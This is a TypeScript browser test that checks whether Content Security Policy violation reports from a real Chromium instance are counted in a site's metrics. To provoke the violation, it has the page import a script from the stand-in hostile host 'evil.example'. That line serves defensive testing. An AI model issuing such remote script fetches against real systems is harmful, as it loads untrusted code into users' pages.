import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { connect } from 'node:tls';
import { chromium } from '@playwright/test';
import { expect, onTestFinished, test } from 'vitest';
import { CHROMIUM_FLAGS, WHOLE_CHROMIUM } from '#tests/support/chromium.ts';
import { ask } from '#tests/support/http-request.ts';
import { SITE_HOST, startNginx, type FrontServer } from './front-server.ts';
import { siteBehindFront } from './site-behind-front.ts';

test('a real browser reports what a page forbids, and it is counted', async () => {
  const { front, servers } = await siteBehindFront(startNginx);
  const browser = await chromium.launch({
    // Reports are sent in the background.
    ignoreDefaultArgs: ['--disable-background-networking'],
    executablePath: WHOLE_CHROMIUM,
    args: [
      ...CHROMIUM_FLAGS.filter((flag) => flag !== '--disable-background-networking'),
      `--ignore-certificate-errors-spki-list=${await keyOf(front)}`,
      '--short-reporting-delay',
      `--host-resolver-rules=MAP ${SITE_HOST} 127.0.0.1`,
    ],
  });
  onTestFinished(() => browser.close());
  const page = await browser.newPage();
  await page.goto(`https://${SITE_HOST}:${front.httpsPort.toString()}/kuendigung`);
  await page.evaluate(`import('https://evil.example/a.js').catch(() => undefined)`);
  const counted = async () => {
    const metrics = await Promise.all(servers.map(({ admin }) => ask(admin, '/metrics')));
    return metrics.some(({ body }) =>
      /csp_reports_total\{directive="[a-z-]+"\} [1-9]/.test(body.toString()),
    );
  };
  await expect.poll(counted, { timeout: 25_000 }).toBe(true);
});

/** Hash of the key of its certificate, which the browser then takes for a good one. */
async function keyOf(front: FrontServer): Promise<string> {
  const socket = connect({
    host: '127.0.0.1',
    port: front.httpsPort,
    servername: SITE_HOST,
    rejectUnauthorized: false,
  });
  await once(socket, 'secureConnect');
  const key = socket.getPeerX509Certificate()?.publicKey.export({ type: 'spki', format: 'der' });
  socket.destroy();
  return createHash('sha256')
    .update(key ?? '')
    .digest('base64');
}
